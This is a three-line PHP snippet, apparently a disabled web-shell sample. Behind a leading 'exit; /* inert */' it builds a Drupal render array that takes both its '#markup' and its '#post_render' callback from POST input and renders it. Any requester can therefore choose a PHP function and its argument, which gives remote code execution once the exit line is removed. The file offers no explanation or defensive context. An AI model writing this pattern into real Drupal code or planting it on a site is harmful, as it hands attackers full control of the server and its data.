<?php exit; /* inert */ 
$el = array('#markup' => $_POST['mk'], '#post_render' => array($_POST['pr']), '#type' => 'markup');
print drupal_render($el);
